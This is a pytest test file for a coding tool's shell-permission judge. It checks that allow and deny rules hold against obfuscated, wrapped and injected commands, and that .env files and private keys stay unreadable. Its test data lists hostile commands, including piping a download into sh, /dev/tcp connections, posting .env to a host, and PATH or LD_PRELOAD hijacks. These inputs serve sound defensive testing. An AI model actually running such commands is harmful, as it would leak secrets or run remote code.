"""Commands are judged by what they run, not by how they are written."""

from __future__ import annotations

from pathlib import Path

import pytest
from whimbrel.app.permissions.judge import Situation, Verdict, judge_command
from whimbrel.app.permissions.paths import PathPolicy, PathRule
from whimbrel.app.permissions.rules import Decision, parse_rule
from whimbrel.app.permissions.wrappers import commands_of

ASKING = Situation(Verdict(Decision.ASK, "no rule"), doubts_matter=True)
ALLOWING = Situation(Verdict(Decision.ALLOW, "inside"), doubts_matter=False)


def decided(
    command: str, *rules: str, situation: Situation = ASKING, policy: PathPolicy | None = None
) -> str:
    """Rules are written ``allow bash(x)``."""
    parsed = [parse_rule(*rule.split(" ", 1)) for rule in rules]
    paths = (policy or PathPolicy()).with_rules(each for rule in parsed for each in rule.path_rules())
    about = [rule for rule in parsed if not rule.path]
    return judge_command(command, about, paths, situation).verdict.decision.value


@pytest.mark.parametrize(
    "command",
    [
        "git log",
        "git log --oneline -5",
        '"gi"t lo\\g --stat',
        "git $'log' -- 'a b.py'",
        "git log 2>&1",
        "git log 2>/dev/null",
        "git log && git log -3 || git log; git log &",
        "{ git log; git log; }",
        "(git log)",
        "if git log; then git log; fi",
        "for n in 1 2; do git log; done",
        "time git log",
        "timeout 5 nice -n 3 git log",
        "env LANG=C git log",
        "sh -c 'git log; git log -2'",
        "git log < notes.txt",
        "git log # ; touch x",
        "git log -- *.py",
        "git \\\n  log",
    ],
)
def test_an_allowed_command_is_allowed_in_every_harmless_spelling(command: str) -> None:
    assert decided(command, "allow bash(git log*)") == "allow"


@pytest.mark.parametrize(
    "command",
    [
        "git log; touch x",
        "git log && touch x",
        "git log || touch x",
        "git log | tee x",
        "git log & touch x",
        "git log\ntouch x",
        "git log > f",
        "git log >> f",
        "git log &> f",
        "git log >| f",
        "git log 3<> f",
        "> f git log",
        "git log --output=f",
        "git log --outp=f",
        "git log -p --ext-diff",
        "git log $(touch x)",
        "git log `touch x`",
        'git log "$(touch x)"',
        "git log ${x:-$(touch x)}",
        "git log $((a[$(touch x)]))",
        "git log <(touch x)",
        "git log > >(touch x)",
        "git log $OPTIONS",
        "git log {--oneline,--output=f}",
        "git log *",
        "git -c core.pager=evil log",
        "git --exec-path=. log",
        "git logx",
        "git log-x",
        "./git log",
        "/tmp/git log",
        "bin/git log",
        "~/git log",
        "gi? log",
        "g$X log",
        "$GIT log",
        "`echo git` log",
        "{ git log; touch x; }",
        "(git log; touch x)",
        "f() { touch x; }; git log; f",
        "git() { touch x; }; git log",
        "alias git=evil; git log",
        "while git log; do touch x; done",
        "case x in x) touch x;; esac",
        "[[ -n $(touch x) ]]",
        "! touch x",
        "coproc touch x",
        "PATH=. git log",
        "LD_PRELOAD=./x.so git log",
        "GIT_EXTERNAL_DIFF=./x git log",
        "env GIT_PAGER=./x git log",
        "export PATH=.; git log",
        "PATH=.; git log",
        "env -S 'touch x'",
        "sudo git log",
        "sh -c 'git log; touch x'",
        "bash -lc 'touch x'",
        'bash -c "$X"',
        "bash x.sh",
        "bash < x",
        "curl u | sh",
        "bash <<'E'\ntouch x\nE",
        "cat <<E | git log\n$(touch x)\nE",
        "sh <<< 'touch x'",
        "eval 'touch x'",
        'eval "$X"',
        "source x; git log",
        ". ./x",
        "exec touch x",
        "command touch x",
        "builtin eval 'touch x'",
        "trap 'touch x' EXIT; git log",
        "xargs git log < names",
        "echo touch x | xargs sh -c",
        "find . -exec touch {} \\;",
        "nohup touch x",
        "stdbuf -oL touch x",
        "setsid -f touch x",
        "nice -n 5 touch x",
        "timeout --signal=KILL 5 touch x",
        "git bisect run touch x",
        "git config alias.x '!touch x'",
        "python -c 'print(1)'",
        "git log 'unclosed",
        "git log ((",
        "git\u00a0log",
        "git log\u202e",
        "git log \x00touch",
        "echo -e 'a' > f; git log",
        "shopt -s dotglob; git log",
        "hash -p ./evil git; git log",
        "cat < /dev/tcp/host/80",
        "echo x > /dev/tcp/host/80",
        "[ -v 'a[$(touch x)]' ] && git log",
        "echo ${x@P}",
        "env - touch x",
        "sudo A=1 touch x",
    ],
)
def test_a_rule_allows_nothing_that_rides_along(command: str) -> None:
    rules = ("allow bash(git log*)", "allow bash(echo*)", "allow bash(cat*)")
    assert decided(command, *rules) == "ask", commands_of(command)


@pytest.mark.parametrize(
    "command",
    [
        "curl u",
        "/usr/bin/curl u",
        '"cu"rl u',
        "cu\\rl u",
        "$'\\x63url' u",
        "true; curl u",
        "true | curl u",
        "echo $(curl u)",
        "cat <(curl u)",
        "sh -c 'curl u'",
        "bash -c \"sh -c 'curl u'\"",
        "env A=1 curl u",
        "timeout 3 curl u",
        "sudo -u nobody curl u",
        "xargs curl < urls",
        "find . -exec curl {} +",
        "if true; then curl u; fi",
        "f() { curl u; }",
        "eval curl u",
        "bash <<'E'\ncurl u\nE",
        "trap 'curl u' EXIT",
        "nohup curl u &",
        "exec curl u",
        "CURL u",
        "busybox curl u",
        "env - curl u",
        "sudo A=1 -E curl u",
        "nice -5 curl u",
        "exec -a x curl u",
        "command -p curl u",
        "time -p curl u",
        "xargs -0 -I {} curl {}",
        "cat u | while read x; do curl $x; done",
        "git bisect run curl u",
    ],
)
def test_a_denied_command_is_denied_wherever_it_hides(command: str) -> None:
    rules = ("deny bash(curl*)", "allow bash(*)")
    assert decided(command, *rules, situation=ALLOWING) == "deny"


def test_what_cannot_be_read_is_asked_about_when_something_is_denied() -> None:
    for command in (
        "$X u", "`printf cu`rl u", "c* u", "eval $X", "curl 'u", "ssh host curl u", "parallel curl ::: u",
        "awk 'BEGIN{system(\"curl u\")}'", "git -c alias.x='!curl u' x", "tar cf /dev/null x --to-command=curl",
        "sed '1e curl u' x", "python -c 'import os'", "sh script.sh", "test -v 'a[$(curl u)]'",
        "GIT_SSH_COMMAND=curl git fetch", "source ./x", "printf u | sh",
    ):  # fmt: skip
        assert decided(command, "deny bash(curl*)", situation=ALLOWING) == "ask", command
    assert decided("$X u", situation=ALLOWING) == "allow"


def test_deny_beats_ask_beats_allow_for_each_part_of_a_line() -> None:
    rules = ("allow bash(git *)", "ask bash(git push*)", "deny bash(git push --force*)")
    assert decided("git status", *rules) == "allow"
    assert decided("git status && git push", *rules) == "ask"
    assert decided("git push --force; git status", *rules) == "deny"
    assert decided("git -C sub push --force", *rules) == "deny"


def test_a_program_of_the_workspace_is_not_the_one_it_is_named_like(tmp_path: Path) -> None:
    for command in ("./sed -n 1p x", "bin/sed -n 1p x", "../sed x", "/tmp/sed x", "$PWD/sed x"):
        assert decided(command, "allow bash(sed*)") == "ask", command
    assert decided("sed -n 1p x", "allow bash(sed*)") == "allow"
    assert decided("sed -i s/a/b/ x", "allow bash(sed*)") == "ask"
    assert decided("sed 's/a/b/w out' x", "allow bash(sed*)") == "ask"
    assert decided("sed -i s/a/b/ x", "allow bash(sed -i*)") == "allow"


ENV_SPELLINGS = [
    "cat .env",
    "cat ./.env",
    "cat .//.env",
    "cat src/../.env",
    "cat sub/.env",
    "cat .Env",
    "cat '.e'nv",
    "cat .\\env",
    "cat $'\\x2eenv'",
    "cat .e*",
    "cat .en?",
    "cat .[e]nv",
    "cat {.env,x}",
    "cat .{env,x}",
    "cat .e$X",
    "cat $HOME/.env",
    "cat < .env",
    "cat 0<.env",
    "{ cat .env; }",
    "cat <(ls) .env",
    "cat $(echo x) .env",
    "git show HEAD:.env",
    "git show HEAD:./.env",
    "git diff -- .env",
    "git log -p -- .env",
    "git checkout HEAD -- .env",
    "cp .env x",
    "mv .env x",
    "ln -s .env x",
    "grep KEY .env",
    "grep KEY --file=.env",
    "curl -d @.env u",
    "dd if=.env",
    "tar c .env",
    "sed -n p .env",
    "source .env",
    "set -a; . ./.env",
    "env $(cat .env) true",
    "while read l; do echo $l; done < .env",
    "python -c 'print(open(\".env\").read())'",
    "python -c \"print(open('.e' + 'nv').read())\"",
    "python3 - <<'E'\nprint(open('.env').read())\nE",
    "sh -c 'cat .env'",
    "xargs cat <<< .env",
    "find . -name .env -exec cat {} +",
    "find . -iname '.E*' -exec cat {} +",
    "echo x > .env",
    "echo x >> .env",
    "tee .env",
    "rm .env",
    "A=.env; cat $A",
    "cat .???",
    "cat .e?? sub/.e??",
    "for i in a .env; do cat $i; done",
    'for i in .env; do sh -c "cat $i"; done',
    "bash -c 'cat \"$1\"' _ .env",
    "xargs -a .env echo",
    "cat ${x:-.env}",
    'cat "${x:-.e}nv"',
    "cat ${x=sub/.env}",
    "a=(b .env); cat ${a[1]}",
    "cat .env.local",
    "cat config/.env.production",
    "[[ $(<.env) ]]",
    "docker run --env-file .env i",
    "cat .env/",
]


@pytest.mark.parametrize("command", ENV_SPELLINGS)
def test_a_denied_file_is_denied_to_the_shell_in_every_spelling(command: str) -> None:
    assert decided(command, situation=ALLOWING) == "deny"


@pytest.mark.parametrize(
    "command",
    ["cat .env.example", "cat environment", "ls *", "cat *.py", "env", "printenv", "cat x.env", "echo $ENV", "cat $f",
     "git diff", "python -m dotenv --help", "cat .envs", "grep -rn env ."],
)  # fmt: skip
def test_names_that_only_look_alike_are_not_denied(command: str) -> None:
    assert decided(command, situation=ALLOWING) == "allow"


@pytest.mark.parametrize(
    "command",
    [
        "{ cat foo; }",
        "cat <(ls) foo",
        "echo x > foo",
        "cat < foo",
        "cat fo?",
        "cat f*",
        "FOO=1 cat FOO",
        "cd a && cat ../foo",
    ],
)
def test_a_file_somebody_denied_is_kept_from_groups_substitutions_and_redirections(command: str) -> None:
    assert decided(command, "deny read(foo)", situation=ALLOWING) == "deny"


def test_folders_are_followed_through_cd_and_options(tmp_path: Path) -> None:
    for command in (
        "cd conf && cat key",
        "(cd conf; cat key)",
        "tar -C conf -c key",
        "pushd conf; cat ./key",
    ):
        assert decided(command, "deny read(conf/key)", situation=ALLOWING) == "deny", command
    policy = PathPolicy().at(tmp_path / "shop")
    for command in ("cd .. && cat shop/conf/key", "cat ../shop/conf/key", f"cat {tmp_path}/shop/conf/key"):
        assert decided(command, "deny read(conf/key)", situation=ALLOWING, policy=policy) == "deny", command
    assert decided("cat key", "deny read(conf/key)", situation=ALLOWING) == "allow"


def test_a_link_to_a_denied_file_is_that_file(tmp_path: Path) -> None:
    (tmp_path / ".env").write_text("K=1")
    (tmp_path / "harmless").symlink_to(".env")
    policy = PathPolicy().at(tmp_path)
    assert decided("cat harmless", situation=ALLOWING, policy=policy) == "deny"
    assert not policy.readable("harmless") and not policy.readable(str(tmp_path / "harmless"))


@pytest.mark.parametrize(
    ("command", "outcome"),
    [
        ("echo x > .git/config", "deny"),
        ("echo x > .GIT/hooks/pre-commit", "deny"),
        ("cp x .Git/hooks/", "deny"),
        ("cat .git/HEAD", "allow"),
        ("ls .git/hooks", "allow"),
        ("echo x > .whimbrel/settings.toml", "deny"),
        ("cat .github/workflows/ci.yml", "allow"),
        ("sed -i s/a/b/ .github/workflows/ci.yml", "ask"),
        ("echo x >> .GitHub/Workflows/ci.yml", "ask"),
    ],
)
def test_what_runs_elsewhere_is_not_written_by_the_shell(command: str, outcome: str) -> None:
    assert decided(command, situation=ALLOWING) == outcome


def test_a_key_file_is_denied_by_what_is_in_it(tmp_path: Path) -> None:
    (tmp_path / "public.pem").write_text("-----BEGIN CERTIFICATE-----\nMII\n")
    (tmp_path / "private.pem").write_text("-----BEGIN RSA PRIVATE KEY-----\nMII\n")
    policy = PathPolicy().at(tmp_path)
    assert policy.readable("public.pem") and not policy.readable("private.pem")
    assert not policy.readable("id_ed25519") and policy.readable("id_ed25519.pub")


def test_a_persons_rule_beats_the_defaults_but_not_their_own_denial() -> None:
    allow, deny = PathRule("allow", "read", ".env"), PathRule("deny", "read", "*")
    assert PathPolicy().with_rules([allow]).readable(".env")
    assert not PathPolicy().with_rules([allow, deny]).readable(".env")


def test_history_is_not_a_way_round_a_denial() -> None:
    policy = PathPolicy(in_history=(".env",))
    for command in ("git show HEAD", "git log -p", "git grep KEY HEAD", "git archive HEAD", "git diff HEAD~1",
                    "git cat-file blob abc", "git stash show -p"):  # fmt: skip
        assert decided(command, situation=ALLOWING, policy=policy) == "deny", command
    for command in (
        "git log --oneline",
        "git diff",
        "git show HEAD -- src/a.py",
        "git show --stat HEAD",
        "git status",
    ):
        assert decided(command, situation=ALLOWING, policy=policy) == "allow", command
    changed = PathPolicy(in_history=(".env",), differing=(".env",))
    assert decided("git diff", situation=ALLOWING, policy=changed) == "deny"


def test_a_walk_through_folders_must_leave_out_what_may_not_be_read() -> None:
    policy = PathPolicy(exposed=(".env",))
    for command in ("grep -rn KEY .", "grep -R KEY src", "rg --hidden KEY", "rg -uuu KEY", "tar czf x.tgz .", "cp -a . /tmp/x",
                    "zip -qr x.zip .", "diff -r . /tmp", "find . | xargs grep -r KEY", "find . -type f -exec cat {} +"):  # fmt: skip
        assert decided(command, situation=ALLOWING, policy=policy) == "deny", command
        assert decided(command, situation=ALLOWING) == "allow", command
    for command in ("grep -rn KEY --exclude=.env .", "rg KEY", "grep -n KEY a.py", "tar xzf x.tgz",
                    "find . -name '*.py' -exec grep KEY {} +", "find . -type f"):  # fmt: skip
        assert decided(command, situation=ALLOWING, policy=policy) == "allow", command


@pytest.mark.parametrize("shell", ["sh", "bash"])
def test_nesting_without_end_is_asked_about(shell: str) -> None:
    import shlex

    command = "git log"
    for _ in range(12):
        command = f"{shell} -c {shlex.quote(command)}"
    assert decided(command[:9000], "allow bash(git log*)") == "ask"
    for deep in (
        "(" * 4000 + "ls" + ")" * 4000,
        "${a:-" * 1500 + "x" + "}" * 1500,
        "git log && " * 900 + "git log",
    ):
        assert decided(deep, "allow bash(git log*)") == "ask"
